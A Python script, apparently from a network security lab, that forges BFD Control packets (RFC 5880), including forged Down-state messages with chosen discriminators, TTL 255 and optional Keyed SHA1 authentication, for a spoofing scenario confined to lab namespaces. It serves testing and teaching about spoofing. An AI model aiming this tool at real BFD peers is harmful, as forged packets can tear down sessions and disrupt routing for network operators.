#!/usr/bin/env python3
"""Sends crafted BFD Control packets (RFC 5880 4.1) for the lab's spoofing scenario.

  bfd_send.py --src A --dst B --my N --your N [--state down] [--diag 3] [--count N]
              [--interval-ms N] [--ttl 255] [--auth keyed-sha1|meticulous-keyed-sha1
              --key-id N --key TEXT --seq N [--seq-step N]]

UDP from SRC (a local address in the namespace it runs in; ephemeral source port) to DST:3784,
TTL 255 unless told. With --auth, the packet carries a Keyed SHA1 section whose digest is
computed per RFC 5880 6.7.4 with --key (so a wrong --key gives a wrong digest). Prints how many
packets it sent. Lab use only: documentation addresses inside the lab's namespaces.
"""

import argparse
import hashlib
import socket
import struct
import sys
import time

STATES = {"admindown": 0, "down": 1, "init": 2, "up": 3}
AUTH = {"keyed-sha1": 4, "meticulous-keyed-sha1": 5}


def packet(a, seq):
    flags = STATES[a.state] << 6
    length = 24
    if a.auth:
        flags |= 0x04
        length = 52
    head = bytes([(1 << 5) | a.diag, flags, a.mult, length])
    head += struct.pack(">IIIII", a.my, a.your, 300000, 300000, 0)
    if not a.auth:
        return head
    sec = bytes([AUTH[a.auth], 28, a.key_id, 0]) + struct.pack(">I", seq)
    key = a.key.encode()[:20].ljust(20, b"\0")
    digest = hashlib.sha1(head + sec + key).digest()
    return head + sec + digest


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--src", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--my", type=int, required=True)
    p.add_argument("--your", type=int, required=True)
    p.add_argument("--state", default="down", choices=sorted(STATES))
    p.add_argument("--diag", type=int, default=3)
    p.add_argument("--mult", type=int, default=3)
    p.add_argument("--count", type=int, default=10)
    p.add_argument("--interval-ms", type=float, default=20)
    p.add_argument("--ttl", type=int, default=255)
    p.add_argument("--auth", choices=sorted(AUTH))
    p.add_argument("--key-id", type=int, default=1)
    p.add_argument("--key", default="")
    p.add_argument("--seq", type=int, default=1)
    p.add_argument("--seq-step", type=int, default=1)
    a = p.parse_args()
    if not 1 <= a.count <= 100000:
        sys.exit("--count must be 1..100000")
    fam = socket.AF_INET6 if ":" in a.dst else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    if fam == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, a.ttl)
    else:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, a.ttl)
    s.bind((a.src, 0))
    for i in range(a.count):
        s.sendto(packet(a, (a.seq + i * a.seq_step) & 0xFFFFFFFF), (a.dst, 3784))
        if a.interval_ms > 0:
            time.sleep(a.interval_ms / 1000)
    print(a.count)


if __name__ == "__main__":
    main()
